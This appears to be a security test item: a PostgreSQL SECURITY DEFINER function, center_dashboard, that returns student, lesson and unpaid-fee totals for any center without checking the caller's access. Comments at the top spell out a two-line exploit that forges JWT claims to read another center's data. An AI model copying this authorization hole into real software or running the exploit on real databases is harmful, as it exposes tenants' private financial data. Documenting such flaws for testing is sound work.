-- The dashboard's numbers are given for any center that is asked for, and whoever asks.
-- about: center_dashboard, fees, students
-- as: hf_tutorbee_app
-- exploit: SET request.jwt.claims = '{"sub": "a0000000-0000-4000-8000-000000000002"}';
-- exploit: SELECT center_dashboard('b1000000-0000-4000-8000-000000000000');
-- shows: 987654
CREATE FUNCTION center_dashboard(p_center uuid) RETURNS jsonb LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = public, pg_temp AS $$
  SELECT jsonb_build_object(
    'students', (SELECT count(*) FROM students WHERE center_id = p_center),
    'lessons', (SELECT count(*) FROM lessons WHERE center_id = p_center),
    'unpaid_cents', (SELECT coalesce(sum(cents), 0) FROM fees WHERE center_id = p_center AND NOT paid))
$$;
GRANT EXECUTE ON FUNCTION center_dashboard(uuid) TO hf_tutorbee_app;
